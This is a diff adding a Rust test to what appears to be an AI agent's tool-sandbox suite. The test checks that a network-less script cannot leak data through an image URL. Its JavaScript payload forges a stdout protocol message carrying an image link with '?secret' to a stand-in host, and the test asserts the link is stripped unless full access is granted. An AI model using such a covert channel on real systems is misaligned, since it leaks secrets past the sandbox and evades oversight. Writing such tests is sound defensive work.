@@ -111,6 +111,28 @@ async fn the_sandbox_is_that_of_commands() {
     assert!(!target.exists() && stage.path("inside").exists());
 }
 
+/// The provider would ask for it, with all that the script has put into the address.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_script_without_network_sends_nothing_out_by_the_address_of_an_image() {
+    let mut stage = sandboxed();
+    let link = "https://elsewhere.example/?secret";
+    let past_the_check = format!(
+        "const {{argv, stdout: pipe}} = await import('node:process');\n\
+         const message = JSON.stringify({{kind: 'image', url: {link:?}, detail: null}});\n\
+         await new Promise((r) => pipe.write('\\n' + argv[1] + message + '\\n', r))"
+    );
+    let shown = |outcome: ToolOutcome| serde_json::to_string(&outcome.output).expect("plain data");
+    let output = shown(run(&stage, "js_repl", &past_the_check).await);
+    assert!(!output.contains("elsewhere") && output.contains("an image was left out"), "{output}");
+    let image = format!("image({link:?}); image('data:image/png;base64,AAAA')");
+    let output = shown(run(&stage, "exec", &image).await);
+    assert!(!output.contains("elsewhere") && output.contains("an image was left out"), "{output}");
+    assert!(output.contains("data:image/png;base64,AAAA"), "{output}");
+    stage.step.sandbox = serde_json::from_value(json!({"type": "dangerFullAccess"})).expect("a policy");
+    let output = shown(run(&stage, "exec", &image).await);
+    assert!(output.contains(link), "{output}");
+}
+
 #[tokio::test(flavor = "multi_thread")]
 async fn another_sandbox_means_another_kernel() {
     let mut stage = sandboxed();
